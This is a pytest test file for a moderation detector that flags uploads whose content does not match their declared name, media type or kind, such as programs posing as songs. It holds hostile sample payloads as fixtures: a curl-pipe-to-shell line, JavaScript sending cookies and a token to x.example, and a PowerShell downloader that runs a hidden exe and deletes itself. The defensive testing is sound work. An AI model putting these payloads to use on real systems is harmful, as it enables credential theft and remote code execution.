"""The `file-type` detector."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderation.content import ContentKind
from moderation.detectors.file_type import FileType
from moderation.extract import Extract
from moderation.files.samples import (
    gif,
    jpeg,
    mp3,
    noise,
    png,
    svg,
    upload,
    wav,
    windows_program,
    zip_of,
)
from moderation.signals import Signal, Unreadable
from tests.moderation.parameter_ids import by_size

DETECTOR = FileType()
TRACK, IMAGE, FILE = ContentKind.TRACK, ContentKind.IMAGE, ContentKind.FILE

PAGE = b"<!DOCTYPE html>\n<html><head><title>404</title></head><body>Not found</body></html>"
SHELL = b"#!/bin/sh\ncurl -s http://x.example/a | sh\n"
JAVASCRIPT = b"""(function () {
  var request = new XMLHttpRequest();
  request.open("POST", "https://x.example/collect", true);
  request.send(document.cookie + localStorage.getItem("token"));
  setTimeout(function () { window.location.href = "https://x.example/"; }, 500);
})();
"""
POWERSHELL = b"""$client = New-Object System.Net.WebClient
$path = Join-Path $env:TEMP "update.exe"
$client.DownloadFile("http://x.example/a.exe", $path)
if (Test-Path $path) { Start-Process -FilePath $path -WindowStyle Hidden }
Remove-Item -Path $MyInvocation.MyCommand.Path -Force
"""
LYRICS = b"Verse 1\nImport all the love from the city lights\nand return it to me\n\n" * 4


def detect(
    data: bytes, name: str = "", media_type: str = "", kind: ContentKind = FILE
) -> list[Signal]:
    return list(DETECTOR.detect(Extract(upload(data, name, media_type, kind))))


@pytest.mark.parametrize(
    ("data", "name", "media_type", "kind", "score"),
    [
        # a program or script posing as anything else is certain
        (windows_program(), "song.mp3", "audio/mpeg", TRACK, 0.97),
        (windows_program(), "song.mp3", "", FILE, 0.97),
        (windows_program(), "", "image/png", FILE, 0.97),
        (windows_program(), "", "", TRACK, 0.97),
        (windows_program(), "lyrics.txt", "text/plain", FILE, 0.97),
        (windows_program(), "project.flp", "", FILE, 0.97),
        (SHELL, "song.mp3", "audio/mpeg", TRACK, 0.95),
        (JAVASCRIPT, "cover.png", "image/png", IMAGE, 0.95),
        (POWERSHELL, "song.wav", "audio/wav", TRACK, 0.95),
        # a page posing as media may be an attack, or a download that went wrong
        (PAGE, "cover.png", "image/png", IMAGE, 0.8),
        # anything else that is not what it says: a person looks
        (png(), "song.mp3", "audio/mpeg", TRACK, 0.7),
        (mp3(), "cover.jpg", "image/jpeg", IMAGE, 0.7),
        (zip_of({"a": b"b"}), "song.mp3", "audio/mpeg", TRACK, 0.7),
        (LYRICS, "song.mp3", "audio/mpeg", TRACK, 0.7),
        (noise(5000), "song.mp3", "audio/mpeg", TRACK, 0.7),
        (mp3(), "setup.exe", "", FILE, 0.7),
        (mp3(), "song.mp3", "image/png", FILE, 0.7),
        # the kind is a promise too
        (png(), "cover.png", "image/png", TRACK, 0.7),
        (wav(), "stem.wav", "audio/wav", IMAGE, 0.7),
        # nobody knows what it is, and it does not say
        (noise(5000), "", "", FILE, 0.6),
        (noise(5000), "thing.xyz", "application/octet-stream", FILE, 0.6),
    ],
    ids=by_size,
)
def test_files_that_are_not_what_they_promise(
    data: bytes, name: str, media_type: str, kind: ContentKind, score: float
) -> None:
    signal, *_ = detect(data, name, media_type, kind)
    assert (str(signal.heading), signal.score) == ("malware/disguised", score)
    assert signal.evidence


@pytest.mark.parametrize(
    ("data", "name", "media_type", "kind"),
    [
        (mp3(), "song.mp3", "audio/mpeg", TRACK),
        # careless declarations that mislead nobody
        (mp3(), "song.mp3", "audio/mp3", TRACK),
        (mp3(), "song.wav", "audio/x-wav", TRACK),
        (mp3(), "", "", TRACK),
        (mp3(), "song.mp3", "application/octet-stream", TRACK),
        (mp3(), "song.mp3", "video/mp4", TRACK),
        (png(), "cover.jpg", "image/pjpeg", IMAGE),
        (svg(), "logo.svg", "image/svg+xml", IMAGE),
        (jpeg(), "cover", "image/*", IMAGE),
        # several extensions that hide nothing
        (wav(), "Artist - Title (www.station.com).wav", "audio/wav", TRACK),
        (zip_of({"a.wav": wav()}), "stems.wav.zip", "application/zip", FILE),
        # words are words, even where a program would use some of them
        (LYRICS, "lyrics.txt", "text/plain", FILE),
        (JAVASCRIPT, "notes.txt", "text/plain", FILE),
        (PAGE, "tour.html", "text/html", FILE),
        # honest about what it is: another detector's business
        (windows_program(), "setup.exe", "application/x-msdownload", FILE),
        # projects of music programs
        (b"FLhd\6\0\0\0\0\0\1\0\x60\0" + noise(90), "beat.flp", "", FILE),
        (noise(900), "preset.fxp", "application/octet-stream", FILE),
        (zip_of({"[Content_Types].xml": b"x"}), "rider.docx", "", FILE),
    ],
    ids=by_size,
)
def test_files_as_musicians_send_them(
    data: bytes, name: str, media_type: str, kind: ContentKind
) -> None:
    assert detect(data, name, media_type, kind) == []


def test_a_picture_that_reads_as_a_script_has_two_faces() -> None:
    signals = detect(b"GIF89a/*" + b"\0" * 20 + b"*/=1;\n" + JAVASCRIPT, "cover.gif")
    assert [signal.score for signal in signals] == [0.9]
    assert "javascript" in signals[0].evidence[0].excerpt


def test_a_misleading_name_is_shown_with_its_place() -> None:
    signal, *_ = detect(windows_program(), "Tour dates.pdf.exe")
    evidence = signal.evidence[0]
    assert signal.score == 0.97
    assert evidence.field == "file_name"
    assert "Tour dates.pdf.exe"[evidence.start : evidence.end] == evidence.excerpt


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "song.mp3"),
        (b"", ""),
        (mp3(1)[:300], "song.mp3"),
        (wav()[:300], "stem.wav"),
        (png()[:-12], "cover.png"),
        (gif()[:-5], "cover.gif"),
    ],
    ids=by_size,
)
def test_empty_and_truncated_files_are_unreadable(data: bytes, name: str) -> None:
    with pytest.raises(Unreadable):
        detect(data, name)


def test_an_empty_file_with_a_misleading_name_is_still_misleading() -> None:
    signal, *_ = detect(b"", "song.mp3.exe")
    assert signal.score == 0.97


@given(st.binary(max_size=600), st.text(max_size=40), st.sampled_from(list(ContentKind)))
def test_no_file_makes_it_fail(data: bytes, name: str, kind: ContentKind) -> None:
    try:
        signals = detect(data, name, "audio/mpeg", kind)
    except Unreadable:
        return
    for signal in signals:
        assert 0 < signal.score <= 1
        for evidence in signal.evidence:
            assert evidence.start is None or 0 <= evidence.start < (evidence.end or 0) <= len(name)
